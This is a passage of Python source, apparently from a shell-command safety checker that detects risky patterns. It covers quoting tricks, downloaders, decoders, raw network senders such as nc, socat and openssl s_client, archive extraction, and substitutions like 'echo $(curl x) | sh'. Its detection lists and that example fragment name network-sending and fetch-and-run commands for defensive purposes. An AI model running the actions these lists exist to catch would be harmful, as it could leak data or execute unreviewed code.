    """Whether ``raw`` holds ``$'…'`` or ``$"…"`` outside single quotes (inside them it is
    text: ``jq 'test("\\.ts$")'``)."""
    if "$'" not in raw and '$"' not in raw:
        return False
    spans = _single_quoted_spans(raw)
    return any(
        raw.startswith(("$'", '$"'), at) and not any(a < at < b for a, b in spans)
        for at in range(len(raw))
    )


def _prints_operands(head: str) -> bool:
    """Whether the command named ``head`` only prints or compares its operands (echo, test)."""
    return head in _TESTS or head in tables().string_only


# Programs whose output is meant to be eval'd and says only what they are: ssh-agent's
# SSH_AUTH_SOCK=…; export …, brew shellenv, pyenv init.
_TRUSTED_EVAL_PRODUCERS = frozenset(["ssh-agent", "brew", "pyenv", "rbenv", "direnv", "zoxide"])
_NAME_LISTING = re.compile(r"\$\{![A-Za-z_][A-Za-z0-9_]*[*@]\}")
_REMOTE_URL = re.compile(r"(?i)(?:https?|ftp|wss?)://")
_DNS_TOOLS = frozenset(["nslookup", "dig", "host", "drill", "resolvectl", "getent", "ping"])
_INDIRECT_REF = re.compile(r"\$\{!([A-Za-z_][A-Za-z0-9_]*)\}")
_REFERENCED = re.compile(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)")
# Programs that print the clipboard: text nobody reviewed, like a download.
_CLIPBOARD_READERS = frozenset(["pbpaste", "xclip", "xsel", "wl-paste", "get-clipboard", "gcb"])
# Options of downloaders that name the file they write.
_PAYLOAD_OUTPUT_OPTIONS: dict[str, tuple[str, ...]] = {
    "curl": ("-o", "--output"),
    "wget": ("-O", "--output-document"),
    "aria2c": ("-o", "--out"),
    "fetch": ("-o", "--output"),
}


_RAW_SENDERS = frozenset(
    ["nc", "ncat", "netcat", "telnet", "socat", "openssl", "gnutls-cli", "ssh"]
)
# Hosts of this machine as nc/telnet/ssh operands (URLs are judged by is_local_url).
_LOCAL_HOSTS = LOCAL_HOSTS | {"[::1]", "0.0.0.0"}
# `openssl s_client -connect host:443 < /dev/null`: closes the input, sends nothing.
_NOTHING_SENT = frozenset(["/dev/null"])


def sends_to_network(argv: list[Word]) -> bool:
    """Whether a stage sends what it reads on stdin to another host (``nc HOST PORT``)."""
    if not argv:
        return False
    name = command_name(argv[0].text)[0].lower()
    if name not in _RAW_SENDERS:
        return False
    args = [w.text for w in argv[1:]]
    if name == "openssl" and "s_client" not in args:
        return False
    if name in ("nc", "ncat", "netcat") and any(
        a in ("-l", "--listen") or re.fullmatch(r"-[a-zA-Z]*l[a-zA-Z]*", a) for a in args
    ):
        return False  # listening, not sending
    operands = [a for a in args if not a.startswith("-") and not a.isdigit()]
    return not operands or any(a.split(":")[0] not in _LOCAL_HOSTS for a in operands)


_EXTRACTED = "\0extracted"  # a key no path has: "an archive of the payload was unpacked"


def _extracts(name: str, args: list[str]) -> bool:
    """Whether ``tar``/``unzip``/``7z`` unpack their archive here."""
    if name in ("unzip", "7z", "7za", "bsdtar", "tar"):
        if name == "unzip":
            return not any(a in ("-l", "-v", "-t", "-Z") for a in args)
        if name.startswith("7z"):
            return args[:1] in (["x"], ["e"])
        first = args[0] if args else ""
        cluster = first.lstrip("-") if first and not first.startswith("--") else ""
        return "x" in cluster or "--extract" in args or "--get" in args
    return False


def produces_payload(argv: list[Word]) -> bool:
    """Whether a stage's output is downloaded or decoded bytes."""
    if not argv:
        return False
    name = command_name(argv[0].text)[0].lower()
    data = tables()
    if name in data.downloaders:
        return True
    # is_decoder unwraps again; most stages are neither, and cheap to rule out by name.
    return (name in data.decoders or name in ("echo", "printf")) and is_decoder(argv)


def _remote_names(name: str, args: list[str]) -> list[str]:
    """Files named after the URL: ``curl -O URL``, ``wget URL`` (without ``-O``)."""
    urls = [arg for arg in args if re.match(r"(?i)[a-z][a-z0-9+.-]*://", arg)]
    if name == "curl":
        remote = any(
            a in ("-O", "--remote-name", "--remote-name-all")
            or re.fullmatch(r"-[a-zA-Z]*O[a-zA-Z]*", a) is not None
            for a in args
        )
    else:
        remote = name == "wget" and not any(a.startswith(("-O", "--output-document")) for a in args)
    if not remote:
        return []
    return [url.split("?")[0].rstrip("/").rpartition("/")[2] or "index.html" for url in urls]


def _simple_texts(walker: Walker, node: Any) -> list[str]:
    """The source text of every simple command under ``node``."""
    texts: list[str] = []
    stack = [node]
    while stack:
        current = stack.pop()
        if getattr(current, "kind", "") == "command":
            words = [p for p in current.parts if getattr(p, "kind", "") == "word"]
            if words:
                texts.append(" ".join(walker._raw(w) for w in words))
        for attr in ("parts", "list"):
            stack.extend(getattr(current, attr, None) or [])
        command = getattr(current, "command", None)
        if command is not None and hasattr(command, "kind"):
            stack.append(command)
    return texts


def _command_names_of_stages(walker: Walker, stages: list[list[Word]]) -> set[str]:
    """Command names hidden inside the stages' substitutions (``echo $(curl x) | sh``)."""
    names: set[str] = set()
    for stage in stages:
        for word in stage:
            if any(mark in word.raw for mark in ("$(", "`", "<(", ">(")):
                for token in re.split(r"[\s$()`|;&<>]+", word.raw):
                    names.add(command_name(token)[0])
    return names


def _command_names(node: Any) -> set[str]:
    """Every command name used inside ``node`` (fork bombs, producers of code)."""
    names: set[str] = set()
    stack = [node]
    while stack:
        current = stack.pop()
        if getattr(current, "kind", "") == "command":
            words = [p for p in current.parts if getattr(p, "kind", "") == "word"]
            if words:
                names.add(command_name(str(words[0].word))[0])
        for attr in ("parts", "list"):
            stack.extend(getattr(current, attr, None) or [])
        command = getattr(current, "command", None)
        if command is not None and hasattr(command, "kind"):
            stack.append(command)
    return names
